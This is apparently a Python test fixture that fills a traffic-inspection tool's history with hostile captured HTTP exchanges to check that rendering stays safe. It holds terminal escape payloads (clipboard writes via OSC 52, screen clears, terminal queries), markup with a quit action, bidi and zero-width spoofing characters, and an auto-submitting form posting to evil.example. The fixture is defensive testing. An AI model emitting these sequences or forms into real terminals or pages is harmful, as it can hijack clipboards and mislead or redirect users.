"""A history in which every field of every exchange wants something from who looks at it: escape
sequences, markup, characters that reorder or hide, values of any size, bytes that are no text."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

from tests.exchanges import START, simulated
from workbench.history import Store
from workbench.inspection.reading import read
from workbench.model.capture import Capture, Certificate, Failure, Timing, TlsFacts
from workbench.model.exchange import Exchange
from workbench.service.workbench import Workbench

STOLEN = b"c3RvbGVu"  # what would stand in the clipboard
# What would act if it reached a terminal as it is: none of these may be among what is written.
ACTING = (
    b"\x1b[2J\x1b[H",  # clears the screen
    b"\x1b]0;pwned\x07",  # names the window
    b"\x1b]52;c;" + STOLEN + b"\x07",  # writes the clipboard
    b"\x1b]8;;https://evil.example/\x1b\\",  # a link
    b'\x1bP$q"p\x1b\\',  # asks the terminal something (DCS)
    b"\x1b[6n",  # asks where the cursor is
    b"\x1b[?1049l",  # leaves the app's screen
    b"\x1bc",  # resets the terminal
    "\x9b31m".encode(),  # CSI and OSC in one character (C1)
    "\x9d0;pwned\x9c".encode(),
)
MARKUP = "[red]r[/red] [@click=app.quit]q[/] [/] [link=https://evil.example]l[/link] [/ [[ \\["
REORDERING = "\u202etxt.exe\u202c \u2066x\u2069 \u200fr\u200e \u061c"
HIDDEN = "a\u200bb\u200dc\ufeffd\u2060e\u00adf\u034fg\u3164h\U000e0041i"
MARKS = "e\u0301o\u0308 z" + "\u0335\u0489" * 60
WIDE = "👩\u200d👩\u200d👧 🏳\ufe0f\u200d🌈 🇫🇷 全角 ｗ ﷽ 👍🏽"
CONTROLS = "nul\x00 bel\x07 bs\x08 vt\x0b ff\x0c so\x0e si\x0f us\x1f del\x7f nel\x85 ls\u2028"
ESCAPES = " ".join(part.decode() for part in ACTING) + " \x1b"
TEXT = f"HOSTILE {ESCAPES} {MARKUP} {REORDERING} {HIDDEN} {CONTROLS} {WIDE} {MARKS}"
NOT_TEXT = b"HOSTILE \xff\xfe\xc3 \xed\xa0\x80 \xf5\x80 \xe2\x80"
MEGABYTES = 10_000_000
MANY = 5000


def exchanges() -> list[Exchange]:
    """One for each kind of hostility; the first holds all of it in every field."""
    value = TEXT.encode()
    return [
        replace(
            _answered(_page(value), value, tls=_certificates()),
            labels=tuple(part.replace(" ", "_") for part in (MARKUP, REORDERING, ESCAPES)),
            note=TEXT,
        ),
        replace(
            _answered(_page(NOT_TEXT), NOT_TEXT),
            labels=("\ufffd",),
            note=NOT_TEXT.decode("utf-8", "replace"),
        ),
        _answered(_long_page(), b"long"),
        _answered(_wide_page(), b"wide"),
        _answered(_json(), value),
        replace(_failed(), origin="import", note=MARKUP),
        _answered(b"\x1b]0;pwned\x07 no HTTP \x9b2J at all\r\n\r\n" + value, value),
    ]


def keep(folder: Path) -> Workbench:
    """The history as a file, and a workbench on it."""
    file = folder / "history.sqlite3"
    with Store.open(file) as store:
        store.insert_many(exchanges())
    return Workbench(file, config=folder / "no-config.toml")


def _answered(received: bytes, asked: bytes, tls: TlsFacts | None = None) -> Exchange:
    in_line = asked.replace(b" ", b"+").replace(b"\r", b"").replace(b"\n", b"")
    escaped = "".join(f"%{byte:02x}" for byte in asked).encode()
    target = b"/v3/oauth/authorize?institution_id=" + escaped + b"&tag=" + escaped
    target += b"&redirect_uri=" + in_line + b"&" + in_line + b"=" + in_line + b"&state=" + escaped
    sent = b"GET " + target + b" HTTP/1.1\r\nHost: bank.example\r\nX-Odd: " + asked + b"\r\n\r\n"
    capture = Capture(
        url="https://bank.example" + target.decode("utf-8", "replace"),
        sent=sent,
        received=received,
        started_at=START,
        timing=Timing(first_byte=3.0, total=4.0),
        tls=tls,
        peer="203.0.113.7:443",
    )
    return Exchange(capture, read)


def _page(value: bytes) -> bytes:
    inputs = b"".join(
        b"<input type=" + kind + b" name='" + value + b"' value='" + value + b"'>"
        for kind in (b"hidden", b"text", b"submit")
    )
    body = b"<title>" + value + b"</title><p>" + value + b"<form method=post action='https://evil"
    body += b".example/" + value + b"'>" + inputs + b"</form><script>document.forms[0].submit()"
    body += b"</script>" + value
    headers = (
        (b"Content-Type", b"text/html; charset=utf-8"),
        (b"Location", b"https://evil.example/" + value),
        (b"Set-Cookie", value + b"=" + value),
        (b"X-Correlation-Id", value),
        (b"CF-RAY", value),
        (b"X-" + value, value),
    )
    head = b"HTTP/1.1 302 " + value + b"\r\n"
    return head + b"".join(n + b": " + v + b"\r\n" for n, v in headers) + b"\r\n" + body


def _long_page() -> bytes:
    """One line of ten megabytes, most of it one value."""
    many = TEXT.encode() * 100
    value = many + b"x" * (MEGABYTES - len(many))
    body = b"<form action=/a><input type=hidden name=long value='" + value + b"'></form>"
    return b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + body


def _wide_page() -> bytes:
    """Five thousand inputs."""
    value = f"{MARKUP} {ESCAPES}"
    inputs = "".join(f"<input name='{n} {value}' value='{n} {value}'>" for n in range(MANY))
    body = f"<title>{MARKUP}</title><form action=/a>{inputs}</form>"
    head = "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    return (head + body).encode()


def _json() -> bytes:
    body = json.dumps({"error": TEXT, "error_description": TEXT, "errors": {TEXT: [TEXT]}})
    head = b"HTTP/1.1 400 Bad Request\r\nContent-Type: application/json\r\n\r\n"
    return head + body.encode()


def _failed() -> Exchange:
    plain = simulated(6)
    failure = Failure("tls", TEXT, "tls", TEXT, TEXT, (TEXT, MARKUP))
    capture = replace(plain.capture, received=b"", failure=failure, peer=TEXT)
    return replace(plain, capture=capture, origin="live")


def _certificates() -> TlsFacts:
    one = Certificate(
        subject=f"CN={TEXT}",
        issuer=f"CN={MARKUP}",
        names=(TEXT, MARKUP),
        not_before=datetime(2020, 1, 1, tzinfo=UTC),
        not_after=datetime(2021, 1, 1, tzinfo=UTC),
        serial=TEXT,
        sha256="ab" * 32,
    )
    return TlsFacts(TEXT, TEXT, TEXT, False, TEXT, (one,))
